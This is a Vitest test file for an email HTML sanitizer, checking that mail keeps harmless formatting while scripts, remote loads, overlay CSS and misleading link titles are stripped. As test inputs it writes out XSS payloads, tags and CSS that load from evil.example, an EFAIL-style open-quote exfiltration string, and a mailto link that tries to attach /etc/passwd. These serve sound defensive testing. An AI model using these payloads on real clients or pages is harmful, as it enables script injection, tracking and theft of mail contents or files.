// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { createSafeHtml } from '../../extension/ui/safe-html.ts';

const safeHtml = createSafeHtml(window);
const PNG = { contentId: 'a@b', name: 'a.png', type: 'image/png', bytes: new Uint8Array([1, 2, 3]) };
const clean = (html: string, links = true): string => safeHtml(html, { images: [PNG], links }).html;

describe('HTML of a mail', () => {
  it('keeps what a person writes', () => {
    const html = '<p style="color: rgb(255, 0, 0)">Hello <b>you</b>, <a href="https://example.com/">link</a></p><table><tbody><tr><td colspan="2">x</td></tr></tbody></table>';
    expect(clean(html)).toContain('<b>you</b>');
    expect(clean(html)).toContain('href="https://example.com/"');
    expect(clean(html)).toContain('colspan="2"');
    expect(clean(html)).toMatch(/style="color: ?rgb\(255, 0, 0\)"/);
  });

  it.each([
    '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<svg onload=alert(1)></svg>', '<iframe src="https://evil.example/"></iframe>',
    '<object data="https://evil.example/"></object>', '<meta http-equiv="refresh" content="0;url=https://evil.example/">', '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/">', '<form action="https://evil.example/"><input></form>', '<a href="javascript:alert(1)">x</a>',
    '<math><mi//xlink:href="data:x,<script>alert(1)</script>">', '<video src="https://evil.example/v">', '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  ])('runs and loads nothing: %s', (html) => {
    expect(clean(html)).not.toMatch(/evil\.example|alert|javascript|<(?:script|svg|iframe|object|meta|base|link|form|input|math|video)/i);
  });

  it.each([
    ['remote picture', '<img src="https://evil.example/p.png">'],
    ['open quote that swallows what follows', '<img src="https://evil.example/?'],
    ['picture set', '<img srcset="https://evil.example/p.png 2x">'],
    ['background attribute', '<table background="https://evil.example/p.png"><tr><td>x</td></tr></table>'],
    ['style url', '<p style="background: url(https://evil.example/)">x</p>'],
    ['style url, escaped', '<p style="background-image: \\75rl(https://evil.example/)">x</p>'],
    ['list image', '<ul style="list-style-image: url(https://evil.example/)"><li>x</li></ul>'],
    ['cursor', '<p style="cursor: url(https://evil.example/), auto">x</p>'],
    ['style sheet', '<style>@import "https://evil.example/";</style><p>x</p>'],
    ['input image', '<input type="image" src="https://evil.example/">'],
  ])('asks nobody outside: %s', (_, html) => {
    expect(clean(html)).not.toContain('evil.example');
  });

  it.each([
    ['fixed place', 'position: fixed; top: 0'], ['over all', 'z-index: 99999'], ['moved away', 'transform: translateY(-900px)'], ['pulled over', 'margin-top: -500px'],
    ['backwards', 'letter-spacing: -20px'],
    ['hidden', 'display: none'], ['seen through', 'opacity: 0'], ['variables', 'color: var(--x)'], ['animation', 'animation: x 1s'],
  ])('stays in its place: %s', (_, style) => {
    expect(clean(`<p style="${style}">x</p>`)).toBe('<p>x</p>');
  });

  it('a link says where it leads, and nothing in it says otherwise', () => {
    const link = clean('<a href="https://evil.example/" title="https://bank.example/"><b title="https://bank.example/">x</b><img src="cid:a@b" title="https://bank.example/"></a>');
    expect(link.match(/title="[^"]*"/g)).toEqual(['title="https://evil.example/"']);
    expect(clean('<abbr title="World Wide Web">WWW</abbr>')).toContain('title="World Wide Web"');
  });

  it('does not depend on where it is shown (conditional content)', () => {
    expect(clean('<style>@media print { .a { display: none } }</style><p class="a" id="b" media="print">x</p>')).toBe('<p>x</p>');
  });

  it('shows pictures of the mail itself, and no drawings with scripts', () => {
    expect(clean('<img src="cid:a@b">')).toBe('<img src="data:image/png;base64,AQID">');
    expect(clean('<img src="cid:a%40b">')).toContain('data:image/png');
    expect(clean('<img src="cid:other">')).toBe('<img>');
    expect(clean('<img src="data:image/svg+xml;base64,AAAA">')).toBe('<img>');
  });

  it('fetches pictures from servers only when it is told to, and by HTTPS', () => {
    const html = '<img src="https://a.example/1.png"><img src="HTTPS://b.example:8443/2"><img src="https://user:pass@c.example/3"><img src="http://d.example/4"><p style="background: url(https://e.example/)">x</p>';
    expect(safeHtml(html, { images: [], links: true })).toMatchObject({ html: '<img><img><img><img><p>x</p>', servers: ['a.example', 'b.example:8443'] });
    expect(safeHtml(html, { images: [], links: true, outside: true }).html)
      .toBe('<img src="https://a.example/1.png" referrerpolicy="no-referrer"><img src="HTTPS://b.example:8443/2" referrerpolicy="no-referrer"><img><img><p>x</p>');
  });

  it('keeps styles aside for pages whose policy refuses them; a mail cannot bring such by itself', () => {
    const html = '<p style="color: red; position: fixed" data-style="position: fixed">x</p><p data-style="position: fixed">y</p>';
    expect(safeHtml(html, { images: [], links: true, page: true })).toMatchObject({ html: '<p data-style="color: red">x</p><p>y</p>', coloured: true });
  });

  it('has text that stands beside it below, which no part of the HTML takes in (EFAIL)', () => {
    const beside = '<b>秘密</b> & "';
    const shown = (page: boolean): string => safeHtml('<p>x</p><img src="https://evil.example/?', { images: [], links: true, outside: true, page, beside }).html;
    expect(shown(false)).toBe('<p>x</p><hr><pre style="white-space: pre-wrap">&lt;b&gt;秘密&lt;/b&gt; &amp; "</pre>');
    expect(shown(true)).toContain('<pre data-style="white-space: pre-wrap">');
  });

  it('has no links on a problem', () => {
    expect(clean('<a href="https://example.com/">x</a>', false)).toBe('<a>x</a>');
  });

  it('lets an address link say to whom and about what, nothing more', () => {
    expect(clean('<a href="mailto:a@b.example?subject=Hi&attach=/etc/passwd&body=x">x</a>')).toContain('href="mailto:a@b.example?subject=Hi"');
    expect(clean('<a href="mailto:a@b.example?attach=/etc/passwd">x</a>')).toContain('href="mailto:a@b.example"');
  });

  it('says whether the mail brings colours of its own', () => {
    expect(safeHtml('<p bgcolor="#fff">x</p>', { images: [], links: true }).coloured).toBe(true);
    expect(safeHtml('<p>x</p>', { images: [], links: true }).coloured).toBe(false);
  });
});
